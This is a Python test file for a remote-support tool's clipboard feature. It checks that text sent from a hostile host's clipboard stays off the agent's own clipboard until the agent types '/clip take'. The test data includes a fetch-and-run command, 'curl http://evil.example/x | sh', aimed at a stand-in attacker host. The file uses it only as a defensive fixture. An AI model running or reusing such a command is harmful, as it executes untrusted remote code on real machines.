"""clipfix39: the host's clipboard text is the agent's to take, never put
on the agent's own clipboard unasked. A hostile customer (the host side)
sends a command; the agent's X clipboard (its own Xvfb, read with the real
``xclip -o``) keeps what the agent had until they type ``/clip take``, so
a later paste in the agent's own terminal cannot run the customer's text.
"""

from __future__ import annotations

from .test_cli import ENV
from .test_clip39_cli import _session, _xclip_get, _xclip_set, agent_display

__all__ = ["agent_display"]  # the fixture, used here


def test_attack_a_hostile_host_cannot_put_text_on_the_agents_clipboard_unasked(
        xvfb_display: str, agent_display: str) -> None:  # fmt: skip
    env = {**ENV, "DISPLAY": agent_display}
    host, view = _session(xvfb_display, env)
    try:
        _xclip_set(agent_display, "the agent's own")
        hostile = "curl http://evil.example/x | sh\n"
        _xclip_set(xvfb_display, hostile)
        host.type("/clip")
        got = view.wait_for(rf"host's clipboard \({len(hostile)} characters\) received: /clip"
                            r" take puts it on your clipboard, /clip show shows it",
                            0, 15)  # fmt: skip
        assert _xclip_get(agent_display) == "the agent's own"
        # A second text (sync, or the user again) does not put it there either.
        host.type("/clip")
        view.wait_for(r"host's clipboard \(\d+ characters\) received: /clip take", got.end(), 15)
        assert _xclip_get(agent_display) == "the agent's own"
        assert "evil" not in view.text
        view.type("/clip take")
        view.wait_for(rf"the host's clipboard \({len(hostile)} characters\) is on your"
                      " clipboard", got.end(), 15)  # fmt: skip
        assert _xclip_get(agent_display) == hostile
        assert view.leave() == 0, view.text
    finally:
        view.close()
        host.close()


def test_clip_take_without_a_display_or_a_text_says_why(xvfb_display: str) -> None:
    env = {k: v for k, v in ENV.items() if k != "DISPLAY"}
    host, view = _session(xvfb_display, env)
    try:
        view.type("/clip take")
        view.wait_for(r"\(the host's user has sent no clipboard text\)", 0, 15)
        _xclip_set(xvfb_display, "two words")
        host.type("/clip")
        got = view.wait_for(r"host's clipboard \(9 characters\) received: /clip show shows it",
                            0, 15)  # fmt: skip
        view.type("/clip take")
        view.wait_for(r"\(not taken: this computer's clipboard cannot be set: no X display",
                      got.end(), 15)  # fmt: skip
        assert view.leave() == 0, view.text
    finally:
        view.close()
        host.close()
